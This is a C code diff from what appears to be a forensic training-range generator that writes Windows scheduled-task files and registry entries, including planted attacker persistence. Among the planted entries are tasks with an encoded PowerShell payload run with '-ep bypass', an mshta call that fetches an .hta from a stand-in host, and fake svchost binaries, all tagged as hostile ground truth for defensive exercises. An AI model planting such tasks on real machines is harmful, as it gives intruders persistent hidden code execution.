@@ -8,10 +8,10 @@
 
 #include <strings.h>
 
-#define MS "\\Microsoft\\Windows\\"
-#define SYS "S-1-5-18"
-#define LOCAL "S-1-5-19"
-#define USERS "S-1-5-32-545"
+#define MS     "\\Microsoft\\Windows\\"
+#define SYS    "S-1-5-18"
+#define LOCAL  "S-1-5-19"
+#define USERS  "S-1-5-32-545"
 #define ADMINS "S-1-5-32-544"
 
 static const char *escaped(estate *e, const char *text)
@@ -42,24 +42,45 @@ static const char *local_time(estate *e, moment t)
 static const char *task_xml(estate *e, const task *t)
 {
     bool group = strcmp(t->user, "S-1-5-32-544") == 0 || strcmp(t->user, "S-1-5-32-545") == 0 || strcmp(t->user, "S-1-5-4") == 0;
-    const char *when = local_time(e, t->at),
-               *trigger = t->boot    ? "    <BootTrigger>\r\n      <Enabled>true</Enabled>\r\n    </BootTrigger>\r\n"
-                          : t->logon ? "    <LogonTrigger>\r\n      <Enabled>true</Enabled>\r\n    </LogonTrigger>\r\n"
-                          : t->interval
-                              ? host_print(e, "    <TimeTrigger>\r\n      <Repetition>\r\n        <Interval>%s</Interval>\r\n        <StopAtDurationEnd>false</StopAtDurationEnd>\r\n      </Repetition>\r\n      <StartBoundary>%s</StartBoundary>\r\n      <Enabled>true</Enabled>\r\n    </TimeTrigger>\r\n", t->interval, when)
-                              : host_print(e, "    <CalendarTrigger>\r\n      <StartBoundary>%s</StartBoundary>\r\n      <Enabled>true</Enabled>\r\n      <ScheduleByDay>\r\n        <DaysInterval>1</DaysInterval>\r\n      </ScheduleByDay>\r\n    </CalendarTrigger>\r\n", when),
-               *action = t->clsid ? host_print(e, "    <ComHandler>\r\n      <ClassId>%s</ClassId>\r\n    </ComHandler>\r\n", t->clsid)
-                                  : host_print(e, "    <Exec>\r\n      <Command>%s</Command>\r\n%s    </Exec>\r\n", escaped(e, t->command),
-                                               t->arguments && *t->arguments ? host_print(e, "      <Arguments>%s</Arguments>\r\n", escaped(e, t->arguments)) : "");
-    return host_print(e,
-                      "<?xml version=\"1.0\" encoding=\"UTF-16\"?>\r\n<Task version=\"1.%d\" xmlns=\"http://schemas.microsoft.com/windows/2004/02/mit/task\">\r\n  <RegistrationInfo>\r\n%s    <Author>%s</Author>\r\n    <URI>%s</URI>\r\n  </RegistrationInfo>\r\n"
-                      "  <Triggers>\r\n%s  </Triggers>\r\n  <Principals>\r\n    <Principal id=\"Author\">\r\n%s      <%s>%s</%s>\r\n    </Principal>\r\n  </Principals>\r\n  <Settings>\r\n    <MultipleInstancesPolicy>IgnoreNew</MultipleInstancesPolicy>\r\n"
-                      "    <DisallowStartIfOnBatteries>false</DisallowStartIfOnBatteries>\r\n    <Hidden>%s</Hidden>\r\n    <Enabled>true</Enabled>\r\n  </Settings>\r\n  <Actions Context=\"Author\">\r\n%s  </Actions>\r\n</Task>",
-                      e->h->nt == NT_60 ? 2 : e->h->nt <= NT_61 ? 3 : 4, t->clsid ? "" : host_print(e, "    <Date>%s</Date>\r\n", when), t->author, t->path, trigger,
-                      t->highest ? "      <RunLevel>HighestAvailable</RunLevel>\r\n" : "", group ? "GroupId" : "UserId", t->user, group ? "GroupId" : "UserId", t->hidden ? "true" : "false", action);
+    const char
+        *when = local_time(e, t->at),
+        *trigger =
+            t->boot    ? "    <BootTrigger>\r\n      <Enabled>true</Enabled>\r\n    </BootTrigger>\r\n"
+            : t->logon ? "    <LogonTrigger>\r\n      <Enabled>true</Enabled>\r\n    </LogonTrigger>\r\n"
+            : t->interval
+                ? host_print(e,
+                             "    <TimeTrigger>\r\n      <Repetition>\r\n        <Interval>%s</Interval>\r\n        "
+                             "<StopAtDurationEnd>false</StopAtDurationEnd>\r\n      </Repetition>\r\n      "
+                             "<StartBoundary>%s</StartBoundary>\r\n      <Enabled>true</Enabled>\r\n    </TimeTrigger>\r\n",
+                             t->interval, when)
+                : host_print(
+                    e,
+                    "    <CalendarTrigger>\r\n      <StartBoundary>%s</StartBoundary>\r\n      <Enabled>true</Enabled>\r\n      "
+                    "<ScheduleByDay>\r\n        <DaysInterval>1</DaysInterval>\r\n      </ScheduleByDay>\r\n    </CalendarTrigger>\r\n",
+                    when),
+        *action = t->clsid ? host_print(e, "    <ComHandler>\r\n      <ClassId>%s</ClassId>\r\n    </ComHandler>\r\n", t->clsid)
+                           : host_print(e, "    <Exec>\r\n      <Command>%s</Command>\r\n%s    </Exec>\r\n", escaped(e, t->command),
+                                        t->arguments && *t->arguments
+                                            ? host_print(e, "      <Arguments>%s</Arguments>\r\n", escaped(e, t->arguments))
+                                            : "");
+    return host_print(
+        e,
+        "<?xml version=\"1.0\" encoding=\"UTF-16\"?>\r\n<Task version=\"1.%d\" "
+        "xmlns=\"http://schemas.microsoft.com/windows/2004/02/mit/task\">\r\n  <RegistrationInfo>\r\n%s    <Author>%s</Author>\r\n    "
+        "<URI>%s</URI>\r\n  </RegistrationInfo>\r\n"
+        "  <Triggers>\r\n%s  </Triggers>\r\n  <Principals>\r\n    <Principal id=\"Author\">\r\n%s      <%s>%s</%s>\r\n    </Principal>\r\n "
+        " </Principals>\r\n  <Settings>\r\n    <MultipleInstancesPolicy>IgnoreNew</MultipleInstancesPolicy>\r\n"
+        "    <DisallowStartIfOnBatteries>false</DisallowStartIfOnBatteries>\r\n    <Hidden>%s</Hidden>\r\n    <Enabled>true</Enabled>\r\n  "
+        "</Settings>\r\n  <Actions Context=\"Author\">\r\n%s  </Actions>\r\n</Task>",
+        e->h->nt == NT_60   ? 2
+        : e->h->nt <= NT_61 ? 3
+                            : 4,
+        t->clsid ? "" : host_print(e, "    <Date>%s</Date>\r\n", when), t->author, t->path, trigger,
+        t->highest ? "      <RunLevel>HighestAvailable</RunLevel>\r\n" : "", group ? "GroupId" : "UserId", t->user,
+        group ? "GroupId" : "UserId", t->hidden ? "true" : "false", action);
 }
 
-static void put_counted(buf *b, const char *text)             /* length in bytes, then UTF-16 */
+static void put_counted(buf *b, const char *text) /* length in bytes, then UTF-16 */
 {
     buf one;
     buf_init(&one, 1 << 16);
@@ -73,8 +94,16 @@ static void pad(buf *b)
     while (b->len % 8)
         put8(b, 0x48);
 }
-static void put_aligned(buf *b, uint32_t v) { put32(b, v); pad(b); }
-static void put_flag(buf *b, bool v) { put8(b, v); pad(b); }
+static void put_aligned(buf *b, uint32_t v)
+{
+    put32(b, v);
+    pad(b);
+}
+static void put_flag(buf *b, bool v)
+{
+    put8(b, v);
+    pad(b);
+}
 static void put_when(buf *b, moment t)
 {
     put_flag(b, moment_known(t));
@@ -88,7 +117,7 @@ static void put_wide_text(buf *b, const char *text)
     pad(b);
 }
 
-static uint32_t seconds_of(const char *interval)              /* "PT50M", "P1D" */
+static uint32_t seconds_of(const char *interval) /* "PT50M", "P1D" */
 {
     uint32_t n = interval ? (uint32_t)strtoul(interval + strcspn(interval, "0123456789"), NULL, 10) : 0;
     return !interval ? 0 : strchr(interval, 'D') ? n * 86400 : strchr(interval, 'H') ? n * 3600 : n * 60;
@@ -237,7 +266,9 @@ static void cache_entry(estate *e, const task *t, span xml)
     hive_sz(h, k, "Id", t->guid);
     hive_dword(h, k, "Index", t->index_zero ? 0 : t->boot ? 1 : t->logon ? 2 : 3);
     if (!t->no_descriptor)
-        hive_binary(h, k, "SD", host_descriptor(e->mem, (const char *const[]){ "S-1-5-32-544", "S-1-5-18", "S-1-5-11" }, (const uint32_t[]){ 0x1f01ff, 0x1f01ff, 0x120089 }, 3));
+        hive_binary(h, k, "SD",
+                    host_descriptor(e->mem, (const char *const[]){ "S-1-5-32-544", "S-1-5-18", "S-1-5-11" },
+                                    (const uint32_t[]){ 0x1f01ff, 0x1f01ff, 0x120089 }, 3));
 }
 
 void host_task(estate *e, const task *given)
@@ -256,7 +287,8 @@ void host_task(estate *e, const task *given)
         buf_init(&file, 1 << 18);
         put16(&file, 0xfeff);
         buf_span(&file, buf_bytes(&b));
-        const char *below = strncasecmp(t.path, MS, strlen(MS)) == 0 ? host_print(e, "%s%s", MS, t.path + strlen(MS)) : t.path; /* one folder, however it is written */
+        const char *below = strncasecmp(t.path, MS, strlen(MS)) == 0 ? host_print(e, "%s%s", MS, t.path + strlen(MS))
+                                                                     : t.path; /* one folder, however it is written */
         char *path = arena_str(e->mem, host_print(e, "Windows/System32/Tasks%s", below));
         for (char *p = path; *p; p++)
             if (*p == '\\')
@@ -267,56 +299,15 @@ void host_task(estate *e, const task *given)
     buf_done(&b);
 }
 
-typedef struct { const char *path; int from, to; const char *command, *arguments, *clsid, *user, *interval; unsigned when; } stock_task;       /* when: 1 boot, 2 logon, 4 hidden, 8 highest */
+typedef struct {
+    const char *path;
+    int from, to;
+    const char *command, *arguments, *clsid, *user, *interval;
+    unsigned when;
+} stock_task; /* when: 1 boot, 2 logon, 4 hidden, 8 highest */
+#define TASK(...) { __VA_ARGS__ },
 static const stock_task stock_tasks[] = {
-    { MS "Active Directory Rights Management Services Client\\AD RMS Rights Policy Template Management (Automated)", 0, 4, NULL, NULL, "{CF2CF428-325B-48D3-8CA8-7633E36E5A32}", "S-1-1-0", NULL, 2 },
-    { MS "AppID\\PolicyConverter", 1, 4, "%windir%\\system32\\appidpolicyconverter.exe", "", NULL, LOCAL, NULL, 12 },
-    { MS "AppID\\VerifiedPublisherCertStoreCheck", 1, 4, "%windir%\\system32\\appidcertstorecheck.exe", "", NULL, SYS, NULL, 8 },
-    { MS "Application Experience\\AitAgent", 1, 3, "aitagent", "", NULL, LOCAL, "P1D", 8 },
-    { MS "Application Experience\\ProgramDataUpdater", 1, 4, "%windir%\\system32\\rundll32.exe", "aepdu.dll,AePduRunUpdate", NULL, SYS, "P1D", 8 },
-    { MS "Application Experience\\Microsoft Compatibility Appraiser", 3, 4, "%windir%\\system32\\compattelrunner.exe", "", NULL, SYS, "P1D", 8 },
-    { MS "Autochk\\Proxy", 1, 4, "%windir%\\system32\\rundll32.exe", "/d acproxy.dll,PerformAutochkOperations", NULL, SYS, NULL, 9 },
-    { MS "CertificateServicesClient\\SystemTask", 0, 4, NULL, NULL, "{58FB76B9-AC85-4E55-AC04-427593B1D060}", SYS, NULL, 5 },
-    { MS "CertificateServicesClient\\UserTask", 0, 4, NULL, NULL, "{58FB76B9-AC85-4E55-AC04-427593B1D060}", USERS, NULL, 6 },
-    { MS "Chkdsk\\ProactiveScan", 2, 4, NULL, NULL, "{CF4270F5-2E43-4468-83B3-A8C45BB33EA1}", SYS, NULL, 12 },
-    { MS "Customer Experience Improvement Program\\Consolidator", 0, 4, "%SystemRoot%\\System32\\wsqmcons.exe", "", NULL, SYS, "PT6H", 8 },
-    { MS "Customer Experience Improvement Program\\KernelCeipTask", 1, 4, NULL, NULL, "{DE434264-8FE9-4C0B-A83B-89EBEEBFF78E}", SYS, NULL, 8 },
-    { MS "Customer Experience Improvement Program\\OptinNotification", 0, 0, "%SystemRoot%\\System32\\wsqmcons.exe", "-n 0x1C577FA2B69CAD0", NULL, USERS, "P1D", 0 },
-    { MS "Defrag\\ScheduledDefrag", 0, 4, "%windir%\\system32\\defrag.exe", "-c", NULL, SYS, "P7D", 8 },
-    { MS "Diagnosis\\Scheduled", 3, 4, NULL, NULL, "{C1F85EF8-BCC2-4606-BB39-70C523715EB3}", USERS, NULL, 0 },
-    { MS "DiskCleanup\\SilentCleanup", 3, 4, "%windir%\\system32\\cleanmgr.exe", "/autoclean /d %systemdrive%", NULL, USERS, NULL, 8 },
-    { MS "MUI\\LPRemove", 0, 4, "%windir%\\system32\\lpremove.exe", "", NULL, SYS, NULL, 1 },
-    { MS "MemoryDiagnostic\\ProcessMemoryDiagnosticEvents", 3, 4, NULL, NULL, "{8168E74A-B39F-46D8-ADCD-7BED477B80A3}", ADMINS, NULL, 12 },
-    { MS "Multimedia\\SystemSoundsService", 0, 4, NULL, NULL, "{2DEA658F-54C1-4227-AF9B-260AB5FC3543}", USERS, NULL, 2 },
-    { MS "NetTrace\\GatherNetworkInfo", 1, 4, "%windir%\\system32\\gatherNetworkInfo.vbs", "", NULL, USERS, "P1D", 0 },
-    { MS "NetworkAccessProtection\\NAPStatus UI", 0, 1, NULL, NULL, "{F09878A1-4652-4292-AA63-8C7D4FD7648F}", "S-1-5-4", NULL, 6 },
-    { MS "PLA\\System\\ConvertLogEntries", 0, 1, "%windir%\\system32\\rundll32.exe", "%windir%\\system32\\pla.dll,PlaConvertLogEntries", NULL, SYS, "P1D", 8 },
-    { MS "PI\\Sqm-Tasks", 3, 4, NULL, NULL, "{C4D4FC8F-9E18-4F0E-A0F7-1C1C7F0F0D90}", SYS, NULL, 12 },
-    { MS "Power Efficiency Diagnostics\\AnalyzeSystem", 1, 4, NULL, NULL, "{927EA2AF-1C54-43D5-825E-0074CE028EEE}", SYS, NULL, 8 },
-    { MS "RAC\\RacTask", 0, 3, NULL, NULL, "{AE31B729-D5FD-401E-AF42-784074835AFE}", LOCAL, "PT1H", 4 },
-    { MS "Ras\\MobilityManager", 1, 4, NULL, NULL, "{C463A0FC-794F-4FDF-9201-01938CEACAFA}", SYS, NULL, 12 },
-    { MS "Registry\\RegIdleBackup", 1, 4, NULL, NULL, "{CA767AA8-9157-4604-B64B-40747123D5F2}", SYS, "P10D", 12 },
-    { MS "Server Manager\\ServerManager", 0, 1, "%windir%\\system32\\ServerManagerLauncher.exe", "", NULL, ADMINS, NULL, 10 },
-    { MS "Server Manager\\ServerManager", 2, 4, "%windir%\\system32\\ServerManagerLauncher.exe", "", NULL, ADMINS, NULL, 10 },
-    { MS "Server Manager\\CleanupOldPerfLogs", 2, 4, "%systemroot%\\system32\\cscript.exe", "/B /nologo %systemroot%\\system32\\calluxxprovider.vbs $(Arg0) $(Arg1) $(Arg2)", NULL, SYS, NULL, 8 },
-    { MS "Servicing\\StartComponentCleanup", 2, 4, NULL, NULL, "{752073A1-23F2-4396-85F0-8FDB879ED0ED}", SYS, NULL, 8 },
-    { MS "SoftwareProtectionPlatform\\SvcRestartTask", 1, 4, "%systemroot%\\system32\\sc.exe", "start sppsvc", NULL, "S-1-5-20", "P7D", 12 },
-    { MS "Shell\\CreateObjectTask", 3, 4, NULL, NULL, "{990A9F8F-301F-45F7-8D0E-68C5952DBA43}", SYS, NULL, 12 },
-    { MS "TaskScheduler\\Regular Maintenance", 2, 4, "%windir%\\system32\\MaintenanceLauncher.exe", "", NULL, SYS, "P1D", 12 },
-    { MS "TaskScheduler\\Idle Maintenance", 2, 4, "%windir%\\system32\\MaintenanceLauncher.exe", "/Idle", NULL, SYS, NULL, 12 },
-    { MS "Tcpip\\IpAddressConflict1", 0, 4, "%windir%\\system32\\rundll32.exe", "ndfapi.dll,NdfRunDllDuplicateIPOffendingSystem", NULL, USERS, NULL, 4 },
-    { MS "Tcpip\\IpAddressConflict2", 0, 4, "%windir%\\system32\\rundll32.exe", "ndfapi.dll,NdfRunDllDuplicateIPDefendingSystem", NULL, USERS, NULL, 4 },
-    { MS "TextServicesFramework\\MsCtfMonitor", 0, 4, NULL, NULL, "{01575CFE-9A55-4003-A5E1-F38D1EBDCBE1}", USERS, NULL, 6 },
-    { MS "Time Synchronization\\SynchronizeTime", 1, 4, "%windir%\\system32\\sc.exe", "start w32time task_started", NULL, LOCAL, "P7D", 8 },
-    { MS "UPnP\\UPnPHostConfig", 0, 4, "sc.exe", "config upnphost start= auto", NULL, SYS, NULL, 12 },
-    { MS "User Profile Service\\HiveUploadTask", 1, 4, NULL, NULL, "{BA677074-762C-444B-94C8-8C83F93F6605}", SYS, "P1D", 12 },
-    { MS "WDI\\ResolutionHost", 1, 4, NULL, NULL, "{900BE39D-6BE8-461A-BC4D-B0FA71F5ECB1}", "S-1-5-4", NULL, 4 },
-    { MS "Windows Error Reporting\\QueueReporting", 0, 4, "%windir%\\system32\\wermgr.exe", "-queuereporting", NULL, USERS, NULL, 6 },
-    { MS "Windows Filtering Platform\\BfeOnServiceStartTypeChange", 1, 4, "%windir%\\system32\\rundll32.exe", "bfe.dll,BfeOnServiceStartTypeChange", NULL, SYS, NULL, 12 },
-    { MS "WindowsColorSystem\\Calibration Loader", 1, 4, NULL, NULL, "{B210D694-C8DF-490D-9576-9E20CDBC20BD}", USERS, NULL, 2 },
-    { MS "WindowsUpdate\\Scheduled Start", 3, 4, "C:\\Windows\\system32\\sc.exe", "start wuauserv", NULL, SYS, "P1D", 12 },
-    { MS "Windows Defender\\Windows Defender Scheduled Scan", 4, 4, "%ProgramFiles%\\Windows Defender\\MpCmdRun.exe", "Scan -ScheduleJob -ScanTrigger 55", NULL, SYS, "P1D", 12 },
-    { MS "Windows Defender\\Windows Defender Cache Maintenance", 4, 4, "%ProgramFiles%\\Windows Defender\\MpCmdRun.exe", "-IdleTask -TaskName WdCacheMaintenance", NULL, SYS, NULL, 12 },
+#include "range/data/tasks.def"
 };
 
 /* A job of `at`: fixed part, five counted texts, one trigger. */
@@ -380,32 +371,74 @@ static void at_job(estate *e, unsigned number, const char *program, const char *
 /* The owner's tasks, as life.c runs them. */
 static void owners_tasks(estate *e)
 {
-    static const struct { const char *en, *zh, *command, *arguments, *interval; } all[] = {
-        { "\\DB log archive", "\\数据库日志归档", "D:\\Tools\\archive.cmd", "", "PT60M" }, { "\\Disk report", "\\磁盘空间巡检", "powershell.exe", "-NoProfile -File D:\\Tools\\diskreport.ps1", "PT720M" }, { "\\Backup to share", "\\备份上传", "D:\\Tools\\robocopy_backup.bat", "", "P1D" } };
+    static const struct {
+        const char *en, *zh, *command, *arguments, *interval;
+    } all[] = { { "\\DB log archive", "\\数据库日志归档", "D:\\Tools\\archive.cmd", "", "PT60M" },
+                { "\\Disk report", "\\磁盘空间巡检", "powershell.exe", "-NoProfile -File D:\\Tools\\diskreport.ps1", "PT720M" },
+                { "\\Backup to share", "\\备份上传", "D:\\Tools\\robocopy_backup.bat", "", "P1D" } };
     for (size_t i = 0; i < 3; i++) {
         const char *name = e->h->zh ? all[i].zh : all[i].en;
         moment at = e->installed + (20 + 7 * i) * MOMENT_DAY;
-        host_task(e, &(task){ .path = name, .command = all[i].command, .arguments = all[i].arguments, .user = SYS, .interval = all[i].interval, .author = host_print(e, "%s\\%s", e->h->name, e->h->admin), .at = at, .highest = true });
-        told_planted(e, (planted){ .kind = "task", .location = host_print(e, "Windows/System32/Tasks%s", name), .value = "", .name = name, .command = *all[i].arguments ? host_print(e, "%s %s", all[i].command, all[i].arguments) : all[i].command, .file = all[i].command, .technique = "T1053.005", .at = at });
+        host_task(e, &(task){ .path = name,
+                              .command = all[i].command,
+                              .arguments = all[i].arguments,
+                              .user = SYS,
+                              .interval = all[i].interval,
+                              .author = host_print(e, "%s\\%s", e->h->name, e->h->admin),
+                              .at = at,
+                              .highest = true });
+        told_planted(e, (planted){ .kind = "task",
+                                   .location = host_print(e, "Windows/System32/Tasks%s", name),
+                                   .value = "",
+                                   .name = name,
+                                   .command = *all[i].arguments ? host_print(e, "%s %s", all[i].command, all[i].arguments) : all[i].command,
+                                   .file = all[i].command,
+                                   .technique = "T1053.005",
+                                   .at = at });
     }
     if (e->h->sql)
-        host_task(e, &(task){ .path = "\\SQL maintenance", .command = "C:\\Program Files\\Microsoft SQL Server\\100\\Tools\\Binn\\SQLCMD.EXE", .arguments = "-E -i D:\\Tools\\reindex.sql", .user = SYS, .interval = "P7D", .author = host_print(e, "%s\\%s", e->h->name, e->h->admin), .at = e->installed + 30 * MOMENT_DAY });
+        host_task(e, &(task){ .path = "\\SQL maintenance",
+                              .command = "C:\\Program Files\\Microsoft SQL Server\\100\\Tools\\Binn\\SQLCMD.EXE",
+                              .arguments = "-E -i D:\\Tools\\reindex.sql",
+                              .user = SYS,
+                              .interval = "P7D",
+                              .author = host_print(e, "%s\\%s", e->h->name, e->h->admin),
+                              .at = e->installed + 30 * MOMENT_DAY });
 }
 
 /* What the logs say was registered. */
 static void left_tasks(estate *e)
 {
-    static const struct { const char *path, *command, *arguments, *interval; } known[] = {
-        { "\\Ddrivers", "C:\\Windows\\System32\\drivers\\svchost.exe", "", "PT60M" }, { "\\WebServers", "C:\\Windows\\System32\\wmiex.exe", "", "PT60M" }, { "\\DnsScan", "C:\\Windows\\Temp\\svchost.exe", "", "PT60M" },
-        { "\\Microsoft\\windows\\Bluetooths", "powershell", "-ep bypass -e " ENCODED, "PT50M" }, { "\\SysUpdate", "mshta.exe", "http://update.invalid/a.hta", "P1D" } };
+    static const struct {
+        const char *path, *command, *arguments, *interval;
+    } known[] = { { "\\Ddrivers", "C:\\Windows\\System32\\drivers\\svchost.exe", "", "PT60M" },
+                  { "\\WebServers", "C:\\Windows\\System32\\wmiex.exe", "", "PT60M" },
+                  { "\\DnsScan", "C:\\Windows\\Temp\\svchost.exe", "", "PT60M" },
+                  { "\\Microsoft\\windows\\Bluetooths", "powershell", "-ep bypass -e " ENCODED, "PT50M" },
+                  { "\\SysUpdate", "mshta.exe", "http://update.invalid/a.hta", "P1D" } };
     for (size_t i = 0; i < e->w->lefts.count; i++) {
         const left *l = vec_at(&e->w->lefts, i);
         for (size_t j = 0; j < sizeof known / sizeof *known; j++) {
             if (l->host != e->h->index || l->kind != LEFT_TASK || !moment_known(l->at) || strcmp(known[j].path, l->name) != 0)
                 continue;
-            host_task(e, &(task){ .path = l->name, .command = known[j].command, .arguments = known[j].arguments, .user = SYS, .interval = known[j].interval, .author = host_print(e, "%s\\%s$", e->w->domain, e->computer), .at = host_clock(e, l->at), .highest = true });
-            told_planted(e, (planted){ .kind = "task", .location = host_print(e, "Windows/System32/Tasks%s", l->name), .value = "", .name = l->name, .command = *known[j].arguments ? host_print(e, "%s %s", known[j].command, known[j].arguments) : known[j].command,
-                                       .file = known[j].command, .technique = "T1053.005", .hostile = true, .at = host_clock(e, l->at) });
+            host_task(e, &(task){ .path = l->name,
+                                  .command = known[j].command,
+                                  .arguments = known[j].arguments,
+                                  .user = SYS,
+                                  .interval = known[j].interval,
+                                  .author = host_print(e, "%s\\%s$", e->w->domain, e->computer),
+                                  .at = host_clock(e, l->at),
+                                  .highest = true });
+            told_planted(e, (planted){ .kind = "task",
+                                       .location = host_print(e, "Windows/System32/Tasks%s", l->name),
+                                       .value = "",
+                                       .name = l->name,
+                                       .command = *known[j].arguments ? host_print(e, "%s %s", known[j].command, known[j].arguments)
+                                                                      : known[j].command,
+                                       .file = known[j].command,
+                                       .technique = "T1053.005",
+                                       .hostile = true,
+                                       .at = host_clock(e, l->at) });
         }
     }
 }
@@ -416,8 +449,17 @@ void host_tasks(estate *e)
         const stock_task *s = &stock_tasks[i];
         if (s->from > (int)e->h->nt || s->to < (int)e->h->nt)
             continue;
-        host_task(e, &(task){ .path = s->path, .command = s->command, .arguments = s->arguments, .clsid = s->clsid, .user = s->user, .interval = s->interval, .at = e->installed + (i + 1) * MOMENT_SECOND,
-                              .boot = s->when & 1, .logon = s->when & 2, .hidden = s->when & 4, .highest = s->when & 8 });
+        host_task(e, &(task){ .path = s->path,
+                              .command = s->command,
+                              .arguments = s->arguments,
+                              .clsid = s->clsid,
+                              .user = s->user,
+                              .interval = s->interval,
+                              .at = e->installed + (i + 1) * MOMENT_SECOND,
+                              .boot = s->when & 1,
+                              .logon = s->when & 2,
+                              .hidden = s->when & 4,
+                              .highest = s->when & 8 });
     }
     owners_tasks(e);
     left_tasks(e);
@@ -425,7 +467,15 @@ void host_tasks(estate *e)
         moment at = host_clock(e, e->w->steps[e->h->step].success) + 10 * MOMENT_MINUTE;
         if (at < e->end) {
             at_job(e, 1, "cmd.exe", "/c c:\\windows\\temp\\svchost.exe", at);
-            told_planted(e, (planted){ .kind = "task-job", .location = "Windows/Tasks/At1.job", .value = "", .name = "At1.job", .command = "cmd.exe /c c:\\windows\\temp\\svchost.exe", .file = "c:\\windows\\temp\\svchost.exe", .technique = "T1053.002", .hostile = true, .at = at });
+            told_planted(e, (planted){ .kind = "task-job",
+                                       .location = "Windows/Tasks/At1.job",
+                                       .value = "",
+                                       .name = "At1.job",
+                                       .command = "cmd.exe /c c:\\windows\\temp\\svchost.exe",
+                                       .file = "c:\\windows\\temp\\svchost.exe",
+                                       .technique = "T1053.002",
+                                       .hostile = true,
+                                       .at = at });
         }
     }
 }
